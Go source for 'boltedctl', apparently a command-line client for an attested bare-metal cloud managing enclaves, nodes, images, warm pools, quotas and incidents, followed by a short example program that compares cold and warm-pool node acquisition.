	fmt.Fprintln(os.Stderr, `usage: boltedctl [-server URL] [-json] [-profile P] [-project NAME] [-async] <command> [args]
commands:
  project create <name>
  node list-free
  node allocate <project> [node]
  node free <project> <node>
  node metadata <node>
  net create <project> <network>
  net delete <project> <network>
  net connect <project> <node> <network>
  net detach <project> <node> <network>
  power <on|off|cycle> <project> <node>
  image list | create <name> <size> | clone <src> <dst> |
        snapshot <src> <snap> | delete <name> | bootinfo <name>
  firmware verify <node> <source-id> <source-file>
        (rebuild LinuxBoot from source and compare against the
         provider-published platform PCR for the node)
  enclave create <name> | list | get <name> | delete <name>
        (server-side enclave resources on the /v1 control plane)
  enclave acquire <image> <n>
        (start an async batch acquisition Operation against the
         -project enclave; without -async, follow it to completion;
         -idem KEY makes a retried submission resume the original
         operation instead of starting a second batch)
  enclave release <node>   (-project NAME, -save IMAGE)
  enclave reclaim <node>   (scrub a rejected-pool node and return it to
        the provider's free pool after repair; -project NAME)
  enclave guard <name> [enable|disable]
        (runtime attestation guard: enable takes -interval,
         -max-quotes, -tolerance and -heal-image; bare form shows
         status; re-running enable updates the policy)
  enclave events <name>      (lifecycle journal; -follow streams live)
  enclave revocations <name> (verifier revocation feed over the wire)
  pool set <enclave>         (warm pool of pre-attested standbys:
        -target occupancy, -airlocks attestation parallelism,
        -refill concurrent warm boots; re-run to update the policy)
  pool get <enclave> | list | drain <enclave> | delete <enclave>
  quota set <tenant>         (weighted-fair share and admission caps:
        -weight fair share, -max-nodes total node cap,
        -inflight concurrent acquire cap; re-run to update)
  quota get <tenant> | list | delete <tenant>
  sched stats                (airlock scheduler snapshot: slots, queue,
        grants, preemptions, per-tenant shares)
  health                     (degraded-mode snapshot: per-backend circuit
        breaker states; exit 7 while degraded)
  resilience get [enclave]   (effective retry/breaker/deadline policy;
        cloud-wide without an enclave)
  resilience set [enclave]   (-max-attempts, -retry-backoff, -backoff-cap,
        -phase-deadline, -breaker-threshold, -breaker-cooldown;
        re-run to update — only the flags passed change)
  op list | get <id> | wait <id> | cancel <id> | events <id>
  op trace <id>              (per-node phase timeline from the server's
        span tracer; recent operations only)
  incident list [enclave] | get <id> | wait <id> | stream
exit codes: 0 ok, 1 transport/API error, 2 usage,
            3 partial batch failure, 4 operation cancelled,
            5 incident open / degraded, 6 over quota (429),
            7 cloud degraded (breaker open)`)
	os.Exit(exitUsage)
}

// emit prints v as JSON under -json, or runs the human formatter.
func emit(v interface{}, human func()) {
	if jsonOut {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(v); err != nil {
			fmt.Fprintln(os.Stderr, "boltedctl:", err)
			os.Exit(exitError)
		}
		return
	}
	human()
}

func main() {
	server := flag.String("server", "http://127.0.0.1:8080", "boltedd service-plane base URL")
	profileName := flag.String("profile", "bob", "enclave security profile: alice, bob or charlie")
	project := flag.String("project", "boltedctl", "enclave name on the /v1 control plane")
	async := flag.Bool("async", false, "enclave acquire: return the operation immediately instead of waiting")
	idemKey := flag.String("idem", "", "enclave acquire: idempotency key; a retried submission with the same key resumes the original operation instead of starting a second batch")
	saveAs := flag.String("save", "", "enclave release: preserve the node's volume as this image")
	interval := flag.Duration("interval", 0, "enclave guard enable: IMA check cadence (0 = server default)")
	maxQuotes := flag.Int("max-quotes", 0, "enclave guard enable: max concurrent quotes per round (0 = server default)")
	tolerance := flag.Int("tolerance", 0, "enclave guard enable: consecutive failed rounds before revocation (0 = server default)")
	healImage := flag.String("heal-image", "", "enclave guard enable: self-heal with replacements booted from this image")
	follow := flag.Bool("follow", false, "enclave events: keep streaming live events")
	poolTarget := flag.Int("target", 0, "pool set: warm standby occupancy to maintain")
	poolAirlocks := flag.Int("airlocks", 0, "pool set: parallel attestation airlocks (0 = server default)")
	poolRefill := flag.Int("refill", 0, "pool set: concurrent warm boots (0 = server default)")
	quotaWeight := flag.Int("weight", 0, "quota set: weighted-fair share of the airlocks (0 = default weight 1)")
	quotaMaxNodes := flag.Int("max-nodes", 0, "quota set: hard cap on the tenant's total nodes (0 = unlimited)")
	quotaInflight := flag.Int("inflight", 0, "quota set: hard cap on concurrent acquires in flight (0 = unlimited)")
	resMaxAttempts := flag.Int("max-attempts", 0, "resilience set: per-backend-call attempt budget, 1 disables retries (0 = server default)")
	resRetryBackoff := flag.Duration("retry-backoff", 0, "resilience set: base of the capped full-jitter retry backoff (0 = server default)")
	resBackoffCap := flag.Duration("backoff-cap", 0, "resilience set: cap on exponential backoff growth (0 = server default)")
	resPhaseDeadline := flag.Duration("phase-deadline", 0, "resilience set: per-lifecycle-phase deadline (0 = unbounded)")
	resBreakerThreshold := flag.Int("breaker-threshold", 0, "resilience set: consecutive transient failures that trip a backend breaker (0 = server default)")
	resBreakerCooldown := flag.Duration("breaker-cooldown", 0, "resilience set: how long a tripped breaker stays open before a half-open probe (0 = server default)")
	flag.BoolVar(&jsonOut, "json", false, "emit results as JSON")
	flag.Parse()
	args := flag.Args()
	if len(args) == 1 && args[0] == "health" {
		// `health` is the one bare command; pad it into the two-token
		// dispatch below.
		args = append(args, "show")
	}
	if len(args) < 2 {
		usage()
	}
	c := hil.NewClient(*server)
	v1 := bolted.NewClient(*server)
	ctx := context.Background()

	need := func(n int) {
		if len(args) != n {
			usage()
		}
	}
	var err error
	switch args[0] + " " + args[1] {
	case "project create":
		need(3)
		err = c.CreateProject(args[2])
	case "node list-free":
		need(2)
		var free []string
		free, err = c.FreeNodes()
		if err == nil {
			emit(free, func() {
				for _, n := range free {
					fmt.Println(n)
				}
			})
		}
	case "node allocate":
		if len(args) == 4 {
			err = c.AllocateNode(ctx, args[2], args[3])
			if err == nil {
				fmt.Println(args[3])
			}
		} else {
			need(3)
			var got string
			got, err = c.AllocateAnyNode(ctx, args[2])
			if err == nil {
				fmt.Println(got)
			}
		}
	case "node free":
		need(4)
		err = c.FreeNode(ctx, args[2], args[3])
	case "node metadata":
		need(3)
		var md map[string]string
		md, err = c.NodeMetadata(args[2])
		if err == nil {
			emit(md, func() {
				for k, v := range md {
					fmt.Printf("%s=%s\n", k, v)
				}
			})
		}
	case "net create":
		need(4)
		err = c.CreateNetwork(ctx, args[2], args[3])
	case "net delete":
		need(4)
		err = c.DeleteNetwork(ctx, args[2], args[3])
	case "net connect":
		need(5)
		err = c.ConnectNode(ctx, args[2], args[3], args[4])
	case "net detach":
		need(5)
		err = c.DetachNode(ctx, args[2], args[3], args[4])
	case "power on", "power off", "power cycle":
		need(4)
		err = c.Power(ctx, args[2], args[3], args[1])
	case "image list":
		need(2)
		var imgs []string
		imgs, err = bmiClient(*server).ListImages()
		if err == nil {
			emit(imgs, func() {
				for _, i := range imgs {
					fmt.Println(i)
				}
			})
		}
	case "image create":
		need(4)
		var size int64
		size, err = strconv.ParseInt(args[3], 10, 64)
		if err == nil {
			_, err = bmiClient(*server).CreateImage(ctx, args[2], size)
		}
	case "image clone":
		need(4)
		_, err = bmiClient(*server).CloneImage(ctx, args[2], args[3])
	case "image snapshot":
		need(4)
		_, err = bmiClient(*server).SnapshotImage(ctx, args[2], args[3])
	case "image delete":
		need(3)
		err = bmiClient(*server).DeleteImage(ctx, args[2])
	case "image bootinfo":
		need(3)
		var bi *bmi.BootInfo
		bi, err = bmiClient(*server).ExtractBootInfo(ctx, args[2])
		if err == nil {
			emit(map[string]interface{}{
				"kernel_id": bi.KernelID, "cmdline": bi.Cmdline,
				"kernel_bytes": len(bi.Kernel), "initrd_bytes": len(bi.Initrd),
			}, func() {
				fmt.Printf("kernel-id: %s\ncmdline:   %s\nkernel:    %d bytes\ninitrd:    %d bytes\n",
					bi.KernelID, bi.Cmdline, len(bi.Kernel), len(bi.Initrd))
			})
		}
	case "firmware verify":
		need(5)
		var md map[string]string
		md, err = c.NodeMetadata(args[2])
		if err != nil {
			break
		}
		var source []byte
		source, err = os.ReadFile(args[4])
		if err != nil {
			break
		}
		if err = core.VerifyPublishedFirmware(md, args[3], source); err == nil {
			fmt.Printf("node %s: published firmware measurement matches your build of %s\n", args[2], args[3])
		}
	case "enclave create":
		need(3)
		var info *bolted.EnclaveInfo
		info, err = v1.CreateEnclave(ctx, args[2], *profileName)
		if err == nil {
			emit(info, func() { fmt.Printf("enclave %s created (profile %s)\n", info.Name, info.Profile) })
		}
	case "enclave list":
		need(2)
		var encls []*bolted.EnclaveInfo
		encls, err = v1.ListEnclaves(ctx)
		if err == nil {
			emit(encls, func() {
				for _, e := range encls {
					fmt.Printf("%s\tprofile=%s\tnodes=%d\n", e.Name, e.Profile, len(e.Nodes))
				}
			})
		}
	case "enclave get":
		need(3)
		var info *bolted.EnclaveInfo
		info, err = v1.GetEnclave(ctx, args[2])
		if err == nil {
			emit(info, func() {
				fmt.Printf("enclave %s (profile %s)\n", info.Name, info.Profile)
				for n, st := range info.Nodes {
					fmt.Printf("  %s\t%s\n", n, st)
				}
				for _, id := range info.Incidents {
					fmt.Printf("  open incident %s\n", id)
				}
			})
			if len(info.Incidents) > 0 {
				os.Exit(exitIncident)
			}
		}
	case "enclave delete":
		need(3)
		err = v1.DeleteEnclave(ctx, args[2])
	case "enclave acquire":
		need(4)
		var n int
		n, err = strconv.Atoi(args[3])
		if err == nil {
			os.Exit(acquireV1(ctx, v1, *project, *profileName, args[2], n, *async, *idemKey))
		}
	case "enclave release":
		need(3)
		err = v1.ReleaseNode(ctx, *project, args[2], *saveAs)
	case "enclave reclaim":
		need(3)
		err = v1.ReclaimNode(ctx, *project, args[2])
		if err == nil {
			fmt.Printf("node %s reclaimed: scrubbed and returned to the free pool\n", args[2])
		}
	case "enclave guard":
		if len(args) == 3 {
			var info *bolted.GuardInfo
			info, err = v1.GetGuard(ctx, args[2])
			if err == nil {
				emit(info, func() { printGuard(info) })
			}
			break
		}
		need(4)
		switch args[3] {
		case "enable":
			p := bolted.GuardPolicyInfo{
				Interval:         *interval,
				MaxConcurrent:    *maxQuotes,
				FailureTolerance: *tolerance,
				SelfHeal:         *healImage != "",
				Image:            *healImage,
			}
			var info *bolted.GuardInfo
			info, err = v1.EnableGuard(ctx, args[2], p)
			if err == nil {
				emit(info, func() { printGuard(info) })
			}
		case "disable":
			err = v1.DisableGuard(ctx, args[2])
		default:
			usage()
		}
	case "enclave events":
		need(3)
		enc := json.NewEncoder(os.Stdout)
		err = v1.EnclaveEvents(ctx, args[2], 0, *follow, func(ev bolted.EventInfo) error {
			if jsonOut {
				return enc.Encode(ev)
			}
			printEvent(ev)
			return nil
		})
	case "enclave revocations":
		need(3)
		var revs []bolted.RevocationInfo
		revs, err = v1.Revocations(ctx, args[2], 0)
		if err == nil {
			emit(revs, func() {
				for _, rv := range revs {
					fmt.Printf("%s revoked %s: %s\n", rv.At.Format("15:04:05.000"), rv.Node, rv.Reason)
				}
			})
		}
	case "pool set":
		need(3)
		// Merge semantics: PUT replaces the whole policy, and Target 0
		// is meaningful (drained), so start from the current policy and
		// overlay only the flags the caller actually passed — re-running
		// `pool set -airlocks 8` must not silently drain the pool.
		var p bolted.PoolPolicyInfo
		if cur, getErr := v1.GetPool(ctx, args[2]); getErr == nil {
			p = cur.Policy
		}
		flag.Visit(func(f *flag.Flag) {
			switch f.Name {
			case "target":
				p.Target = *poolTarget
			case "airlocks":
				p.Airlocks = *poolAirlocks
			case "refill":
				p.MaxRefill = *poolRefill
			}
		})
		var info *bolted.PoolInfo
		info, err = v1.ConfigurePool(ctx, args[2], p)
		if err == nil {
			emit(info, func() { printPool(info) })
		}
	case "pool get":
		need(3)
		var info *bolted.PoolInfo
		info, err = v1.GetPool(ctx, args[2])
		if err == nil {
			emit(info, func() { printPool(info) })
		}
	case "pool list":
		need(2)
		var pools []*bolted.PoolInfo
		pools, err = v1.ListPools(ctx)
		if err == nil {
			emit(pools, func() {
				for _, p := range pools {
					fmt.Printf("%s\ttarget=%d warm=%d hits=%d misses=%d\n",
						p.Enclave, p.Policy.Target, p.Warm, p.Hits, p.Misses)
				}
			})
		}
	case "pool drain":
		need(3)
		var info *bolted.PoolInfo
		info, err = v1.DrainPool(ctx, args[2])
		if err == nil {
			emit(info, func() { printPool(info) })
		}
	case "pool delete":
		need(3)
		err = v1.DeletePool(ctx, args[2])
	case "quota set":
		need(3)
		// Same merge semantics as `pool set`: PUT replaces the whole
		// quota and 0 means "unlimited", so overlay only the flags the
		// caller passed on top of the current quota.
		var q bolted.TenantQuotaInfo
		if cur, getErr := v1.GetQuota(ctx, args[2]); getErr == nil {
			q = cur.Quota
		}
		flag.Visit(func(f *flag.Flag) {
			switch f.Name {
			case "weight":
				q.Weight = *quotaWeight
			case "max-nodes":
				q.MaxNodes = *quotaMaxNodes
			case "inflight":
				q.MaxInFlight = *quotaInflight
			}
		})
		var info *bolted.QuotaInfo
		info, err = v1.SetQuota(ctx, args[2], q)
		if err == nil {
			emit(info, func() { printQuota(info) })
		}
	case "quota get":
		need(3)
		var info *bolted.QuotaInfo
		info, err = v1.GetQuota(ctx, args[2])
		if err == nil {
			emit(info, func() { printQuota(info) })
		}
	case "quota list":
		need(2)
		var quotas []bolted.QuotaInfo
		quotas, err = v1.ListQuotas(ctx)
		if err == nil {
			emit(quotas, func() {
				for i := range quotas {
					q := &quotas[i]
					fmt.Printf("%s\tweight=%d max-nodes=%d inflight=%d\tnodes=%d in-flight=%d\n",
						q.Tenant, q.Quota.Weight, q.Quota.MaxNodes, q.Quota.MaxInFlight, q.Nodes, q.InFlight)
				}
			})
		}
	case "quota delete":
		need(3)
		err = v1.DeleteQuota(ctx, args[2])
	case "sched stats":
		need(2)
		var st *bolted.SchedInfo
		st, err = v1.SchedStats(ctx)
		if err == nil {
			emit(st, func() {
				fmt.Printf("airlock slots %d/%d in use, %d queued, %d grants, %d preemptions\n",
					st.InUse, st.Slots, st.Queued, st.Grants, st.Preemptions)
				tenants := make([]string, 0, len(st.Tenants))
				for tenant := range st.Tenants {
					tenants = append(tenants, tenant)
				}
				sort.Strings(tenants)
				for _, tenant := range tenants {
					ts := st.Tenants[tenant]
					fmt.Printf("  %s\tweight=%g grants=%d queued=%d holding=%d waited=%s\n",
						tenant, ts.Weight, ts.Grants, ts.Queued, ts.Holding, ts.Waited)
				}
			})
		}
	case "health show":
		need(2)
		var h *bolted.HealthInfo
		h, err = v1.Health(ctx)
		if err == nil {
			emit(h, func() { printHealth(h) })
			if h.Degraded {
				os.Exit(exitDegraded)
			}
		}
	case "resilience get":
		enclave := ""
		if len(args) == 3 {
			enclave = args[2]
		} else {
			need(2)
		}
		var pol *bolted.ResiliencePolicyInfo
		pol, err = v1.GetResilience(ctx, enclave)
		if err == nil {
			emit(pol, func() { printResilience(enclave, pol) })
		}
	case "resilience set":
		enclave := ""
		if len(args) == 3 {
			enclave = args[2]
		} else {
			need(2)
		}
		// Merge semantics as for `pool set`: PUT replaces the whole
		// policy and zero fields take server defaults, so start from the
		// effective policy and overlay only the flags the caller passed —
		// re-running `resilience set -max-attempts 6` must not silently
		// drop a configured phase deadline back to unbounded.
		var p bolted.ResiliencePolicyInfo
		if cur, getErr := v1.GetResilience(ctx, enclave); getErr == nil {
			p = *cur
		}
		flag.Visit(func(f *flag.Flag) {
			switch f.Name {
			case "max-attempts":
				p.MaxAttempts = *resMaxAttempts
			case "retry-backoff":
				p.RetryBackoff = *resRetryBackoff
			case "backoff-cap":
				p.BackoffCap = *resBackoffCap
			case "phase-deadline":
				p.PhaseDeadline = *resPhaseDeadline
			case "breaker-threshold":
				p.BreakerThreshold = *resBreakerThreshold
			case "breaker-cooldown":
				p.BreakerCooldown = *resBreakerCooldown
			}
		})
		var pol *bolted.ResiliencePolicyInfo
		pol, err = v1.SetResilience(ctx, enclave, p)
		if err == nil {
			emit(pol, func() { printResilience(enclave, pol) })
		}
	case "op list":
		need(2)
		var ops []*bolted.OperationInfo
		ops, err = v1.ListOperations(ctx)
		if err == nil {
			emit(ops, func() {
				for _, op := range ops {
					fmt.Printf("%s\t%s\t%s\timage=%s count=%d\n", op.ID, op.Phase, op.Enclave, op.Image, op.Count)
				}
			})
		}
	case "op get":
		need(3)
		var op *bolted.OperationInfo
		op, err = v1.GetOperation(ctx, args[2])
		if err == nil {
			emit(op, func() { printOperation(op) })
		}
	case "op wait":
		need(3)
		var op *bolted.OperationInfo
		op, err = v1.WaitOperation(ctx, args[2])
		if err == nil {
			emit(op, func() { printOperation(op) })
			os.Exit(operationExitCode(op))
		}
	case "op cancel":
		need(3)
		var op *bolted.OperationInfo
		op, err = v1.CancelOperation(ctx, args[2])
		if err == nil {
			emit(op, func() { printOperation(op) })
		}
	case "op trace":
		need(3)
		var spans []bolted.SpanData
		spans, err = v1.OperationTrace(ctx, args[2])
		if err == nil {
			emit(spans, func() { printTrace(spans) })
		}
	case "op events":
		need(3)
		enc := json.NewEncoder(os.Stdout)
		err = v1.StreamEvents(ctx, args[2], 0, func(ev bolted.EventInfo) error {
			if jsonOut {
				return enc.Encode(ev)
			}
			printEvent(ev)
			return nil
		})
	case "incident list":
		enclaveFilter := ""
		if len(args) == 3 {
			enclaveFilter = args[2]
		} else {
			need(2)
		}
		var incs []*bolted.IncidentInfo
		incs, err = v1.ListIncidents(ctx, enclaveFilter)
		if err == nil {
			emit(incs, func() {
				for _, inc := range incs {
					fmt.Printf("%s\t%-10s\t%s\t%s\t%s\n", inc.ID, inc.State, inc.Enclave, inc.Node, inc.Reason)
				}
			})
		}
	case "incident get":
		need(3)
		var inc *bolted.IncidentInfo
		inc, err = v1.GetIncident(ctx, args[2])
		if err == nil {
			emit(inc, func() { printIncident(inc) })
			if !inc.Terminal() {
				os.Exit(exitIncident)
			}
		}
	case "incident wait":
		need(3)
		var inc *bolted.IncidentInfo
		inc, err = v1.WaitIncident(ctx, args[2])
		if err == nil {
			emit(inc, func() { printIncident(inc) })
			if inc.State != string(bolted.IncidentResolved) {
				os.Exit(exitIncident)
			}
		}
	case "incident stream":
		need(2)
		enc := json.NewEncoder(os.Stdout)
		err = v1.StreamIncidents(ctx, 0, func(inc bolted.IncidentInfo) error {
			if jsonOut {
				return enc.Encode(inc)
			}
			step := ""
			if n := len(inc.Steps); n > 0 {
				s := inc.Steps[n-1]
				step = s.Name
				if s.Error != "" {
					step += " (" + s.Error + ")"
				}
			}
			fmt.Printf("%s\t%-10s\t%s\t%s\t%s\n", inc.ID, inc.State, inc.Enclave, inc.Node, step)
			return nil
		})
	default:
		usage()
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "boltedctl:", err)
		if errors.Is(err, core.ErrOverQuota) {
			os.Exit(exitQuota)
		}
		if errors.Is(err, core.ErrDegraded) {
			os.Exit(exitDegraded)
		}
		os.Exit(exitError)
	}
}

// acquireV1 drives a batch acquisition through the /v1 control plane:
// create-or-reuse the enclave, start the Operation, and either return
// immediately (-async) or follow the event stream to the terminal
// state. The return value is the process exit code.
func acquireV1(ctx context.Context, v1 *bolted.Client, enclave, profile, image string, n int, async bool, idemKey string) int {
	fail := func(err error) int {
		fmt.Fprintln(os.Stderr, "boltedctl:", err)
		if errors.Is(err, core.ErrOverQuota) {
			// V1Client already retried with backoff; the quota is still
			// exhausted, so give scripts a code they can branch on.
			return exitQuota
		}
		if errors.Is(err, core.ErrDegraded) {
			// A backend breaker is open and the server failed the acquire
			// fast; `boltedctl health` shows which backend.
			return exitDegraded
		}
		return exitError
	}
	if _, err := v1.CreateEnclave(ctx, enclave, profile); err != nil {
		if !errors.Is(err, core.ErrExists) {
			return fail(err)
		}
		// Reusing an existing enclave is fine — silently provisioning
		// under a different security posture than the one asked for is
		// not.
		info, getErr := v1.GetEnclave(ctx, enclave)
		if getErr != nil {
			return fail(getErr)
		}
		if info.Profile != profile {
			return fail(fmt.Errorf("enclave %q already exists with profile %s (asked for %s); pick another -project or delete it first",
				enclave, info.Profile, profile))
		}
	}
	op, replayed, err := v1.AcquireIdem(ctx, enclave, image, n, idemKey)
	if err != nil {
		return fail(err)
	}
	if replayed && !jsonOut {
		fmt.Printf("idempotency key %q already committed; resuming operation %s\n", idemKey, op.ID)
	}
	if async {
		emit(op, func() {
			fmt.Printf("operation %s started: %d x %s into enclave %s\n", op.ID, n, image, enclave)
			fmt.Printf("follow with: boltedctl op wait %s | op events %s | op cancel %s\n", op.ID, op.ID, op.ID)
		})
		return exitOK
	}
	// Blocking mode: narrate the lifecycle journal while the server
	// works, then report the final state.
	if !jsonOut {
		if err := v1.StreamEvents(ctx, op.ID, 0, func(ev bolted.EventInfo) error {
			printEvent(ev)
			return nil
		}); err != nil {
			return fail(err)
		}
	}
	op, err = v1.WaitOperation(ctx, op.ID)
	if err != nil {
		return fail(err)
	}
	emit(op, func() { printOperation(op) })
	return operationExitCode(op)
}

// operationExitCode maps a terminal operation onto the script-facing
// exit codes: cancelled and failed-outright are distinct from a batch
// that finished with some nodes rejected.
func operationExitCode(op *bolted.OperationInfo) int {
	switch {
	case op.Phase == string(bolted.OpCancelled):
		return exitCancelled
	case op.Error != "" || op.Result == nil:
		return exitError
	case len(op.Result.Failed) > 0:
		return exitPartial
	default:
		return exitOK
	}
}

// printEvent is the human rendering of one lifecycle journal event,
// shared by `op events` and the blocking acquire's narration.
func printEvent(ev bolted.EventInfo) {
	fmt.Printf("%s %-12s %s %s\n", ev.At.Format("15:04:05.000"), ev.Kind, ev.Node, ev.Detail)
}

func printOperation(op *bolted.OperationInfo) {
	fmt.Printf("operation %s: %s (enclave %s, %d x %s)\n", op.ID, op.Phase, op.Enclave, op.Count, op.Image)
	if op.Error != "" {
		fmt.Printf("error: %s\n", op.Error)
	}
	if op.Result == nil {
		for n, st := range op.Progress {
			fmt.Printf("  %s\t%s\n", n, st)
		}
		return
	}
	for _, n := range op.Result.Nodes {
		fmt.Printf("allocated %s\n", n)
	}
	for _, f := range op.Result.Failed {
		fmt.Printf("rejected  %s (%s: %s)\n", f.Node, f.Phase, f.Error)
	}
	for _, f := range op.Result.Aborted {
		fmt.Printf("aborted   %s (%s: %s)\n", f.Node, f.Phase, f.Error)
	}
	fmt.Printf("batch: %d allocated, %d rejected, %d aborted in %v\n",
		len(op.Result.Nodes), len(op.Result.Failed), len(op.Result.Aborted), op.Result.Wall)
}

// printTrace is the human rendering of an operation's span tree: the
// operation root, then each node's phase timeline with offsets from the
// operation start — the per-node view of where the pipeline spent its
// time.
func printTrace(spans []bolted.SpanData) {
	if len(spans) == 0 {
		fmt.Println("no spans recorded")
		return
	}
	root := spans[0]
	for _, sp := range spans {
		if sp.Parent == 0 {
			root = sp
			break
		}
	}
	dur := func(sp bolted.SpanData) string {
		if sp.End.IsZero() {
			return "in flight"
		}
		return time.Duration(sp.DurationNS).Round(time.Microsecond).String()
	}
	fmt.Printf("trace %s: %s (%s)\n", root.Trace, root.Name, dur(root))
	// Group phase spans under their node, keeping each node's phases in
	// recorded (start) order and nodes in first-appearance order.
	byNode := make(map[string][]bolted.SpanData)
	var nodes []string
	for _, sp := range spans {
		if sp.Span == root.Span || sp.Node == "" {
			continue
		}
		if _, ok := byNode[sp.Node]; !ok {
			nodes = append(nodes, sp.Node)
		}
		byNode[sp.Node] = append(byNode[sp.Node], sp)
	}
	for _, node := range nodes {
		fmt.Printf("  %s\n", node)
		for _, sp := range byNode[node] {
			line := fmt.Sprintf("    +%-10v %-22s %s",
				sp.Start.Sub(root.Start).Round(time.Microsecond), sp.Name, dur(sp))
			if sp.Error != "" {
				line += "  error: " + sp.Error
			}
			fmt.Println(line)
		}
	}
}

// printGuard is the human rendering of a guard resource.
func printGuard(g *bolted.GuardInfo) {
	heal := "off"
	if g.Policy.SelfHeal {
		heal = "on (image " + g.Policy.Image + ")"
	}
	fmt.Printf("guard on enclave %s: interval=%v max-quotes=%d tolerance=%d self-heal=%s\n",
		g.Enclave, g.Policy.Interval, g.Policy.MaxConcurrent, g.Policy.FailureTolerance, heal)
	fmt.Printf("rounds=%d checks=%d revocations=%d\n", g.Rounds, g.Checks, g.Revocations)
	for _, id := range g.Incidents {
		fmt.Printf("  incident %s\n", id)
	}
}

// printPool is the human rendering of a warm-pool resource.
func printPool(p *bolted.PoolInfo) {
	fmt.Printf("pool on enclave %s: target=%d airlocks=%d max-refill=%d\n",
		p.Enclave, p.Policy.Target, p.Policy.Airlocks, p.Policy.MaxRefill)
	fmt.Printf("warm=%d refilling=%d hits=%d misses=%d drained=%d rejected=%d\n",
		p.Warm, p.Refilling, p.Hits, p.Misses, p.Drained, p.Rejected)
	for _, n := range p.WarmNodes {
		fmt.Printf("  standby %s\n", n)
	}
}

// printHealth is the human rendering of the degraded-mode snapshot.
func printHealth(h *bolted.HealthInfo) {
	if h.Degraded {
		fmt.Println("cloud DEGRADED: acquires fail fast, warm refill held, guard rounds paused")
	} else {
		fmt.Println("cloud healthy")
	}
	backends := make([]string, 0, len(h.Backends))
	for b := range h.Backends {
		backends = append(backends, b)
	}
	sort.Strings(backends)
	for _, b := range backends {
		bh := h.Backends[b]
		line := fmt.Sprintf("  %-10s %s", b, bh.State)
		if bh.Failures > 0 {
			line += fmt.Sprintf("  consecutive-failures=%d", bh.Failures)
		}
		if bh.Trips > 0 {
			line += fmt.Sprintf("  trips=%d", bh.Trips)
		}
		fmt.Println(line)
	}
}

// printResilience is the human rendering of a resilience policy.
func printResilience(enclave string, p *bolted.ResiliencePolicyInfo) {
	scope := "cloud-wide"
	if enclave != "" {
		scope = "enclave " + enclave
	}
	deadline := "unbounded"
	if p.PhaseDeadline > 0 {
		deadline = p.PhaseDeadline.String()
	}
	fmt.Printf("resilience (%s): max-attempts=%d retry-backoff=%v backoff-cap=%v phase-deadline=%s\n",
		scope, p.MaxAttempts, p.RetryBackoff, p.BackoffCap, deadline)
	fmt.Printf("breaker: threshold=%d cooldown=%v\n", p.BreakerThreshold, p.BreakerCooldown)
}

// printIncident is the human rendering of an incident resource.
func printQuota(q *bolted.QuotaInfo) {
	fmt.Printf("quota %s: weight=%d", q.Tenant, q.Quota.Weight)
	if q.Quota.MaxNodes > 0 {
		fmt.Printf(" max-nodes=%d", q.Quota.MaxNodes)
	}
	if q.Quota.MaxInFlight > 0 {
		fmt.Printf(" inflight=%d", q.Quota.MaxInFlight)
	}
	fmt.Printf(" (using %d nodes, %d acquires in flight)\n", q.Nodes, q.InFlight)
}

func printIncident(inc *bolted.IncidentInfo) {
	fmt.Printf("incident %s: %s (enclave %s, node %s)\nreason: %s\n",
		inc.ID, inc.State, inc.Enclave, inc.Node, inc.Reason)
	for _, s := range inc.Steps {
		if s.Error != "" {
			fmt.Printf("  %s %-16s FAILED: %s\n", s.At.Format("15:04:05.000"), s.Name, s.Error)
			continue
		}
		fmt.Printf("  %s %-16s %s\n", s.At.Format("15:04:05.000"), s.Name, s.Detail)
	}
}

// bmiClient returns a BMI client for the boltedd server's /bmi prefix.
func bmiClient(server string) *bmi.Client {
	return bmi.NewClient(server + "/bmi")
}
