// Warm pool: keep pre-attested standby nodes parked in the attested
// runtime so acquisitions take the kexec fast path instead of paying
// the cold PXE → LinuxBoot → attest chain. This example runs a boltedd
// in-process, arms a warm pool over /v1, and compares a cold batch
// against a warm one — then shows the refiller replacing what the
// batch consumed.
package main

import (
	"context"
	"fmt"
	"log"
	"net/http"
	"net/http/httptest"
	"time"

	"bolted"
)

func main() {
	cfg := bolted.DefaultConfig()
	cfg.Nodes = 8
	cloud, err := bolted.NewCloud(cfg)
	if err != nil {
		log.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("fedora28", bolted.OSImageSpec{
		KernelID: "fedora28-4.17.9",
		Kernel:   []byte("vmlinuz-4.17.9-200.fc28"),
		Initrd:   []byte("initramfs-4.17.9-200.fc28"),
		Cmdline:  "root=iscsi quiet",
	}); err != nil {
		log.Fatal(err)
	}
	var handler http.Handler
	if handler, err = bolted.NewServerHandler(cloud); err != nil {
		log.Fatal(err)
	}
	srv := httptest.NewServer(handler)
	defer srv.Close()

	ctx := context.Background()
	cli := bolted.NewClient(srv.URL)
	if _, err := cli.CreateEnclave(ctx, "bob-lab", "bob"); err != nil {
		log.Fatal(err)
	}

	// Cold baseline: every node pays the full airlock/boot/attest chain.
	cold := acquire(ctx, cli, 2)
	fmt.Printf("cold batch:  2 nodes in %v (phases: %s)\n", cold.Result.Wall, phaseNames(cold))

	// Arm the warm pool: the background refiller boots standbys into
	// the attested runtime and pre-attests them against the provider
	// whitelist.
	pol := bolted.DefaultPoolPolicy()
	pol.Target = 4
	if _, err := cli.ConfigurePool(ctx, "bob-lab", pol); err != nil {
		log.Fatal(err)
	}
	waitWarm(ctx, cli, pol.Target)

	// Warm acquisition: standbys skip straight to re-quote + network
	// move + kexec.
	warm := acquire(ctx, cli, 2)
	fmt.Printf("warm batch:  2 nodes in %v (phases: %s)\n", warm.Result.Wall, phaseNames(warm))

	pool, err := cli.GetPool(ctx, "bob-lab")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("pool: warm=%d refilling=%d hits=%d misses=%d\n",
		pool.Warm, pool.Refilling, pool.Hits, pool.Misses)

	// Drain parks nothing further; standbys return to the free pool.
	if _, err := cli.DrainPool(ctx, "bob-lab"); err != nil {
		log.Fatal(err)
	}
	fmt.Println("pool drained; standbys back in the provider's free pool")
}

// acquire runs one blocking batch acquisition over /v1.
func acquire(ctx context.Context, cli *bolted.Client, n int) *bolted.OperationInfo {
	op, err := cli.Acquire(ctx, "bob-lab", "fedora28", n)
	if err != nil {
		log.Fatal(err)
	}
	final, err := cli.WaitOperation(ctx, op.ID)
	if err != nil {
		log.Fatal(err)
	}
	if final.Result == nil || len(final.Result.Nodes) != n {
		log.Fatalf("operation %s did not allocate %d nodes: %+v", op.ID, n, final)
	}
	return final
}

func phaseNames(op *bolted.OperationInfo) string {
	out := ""
	for i, p := range op.Result.Phases {
		if i > 0 {
			out += " "
		}
		out += p.Phase
	}
	return out
}

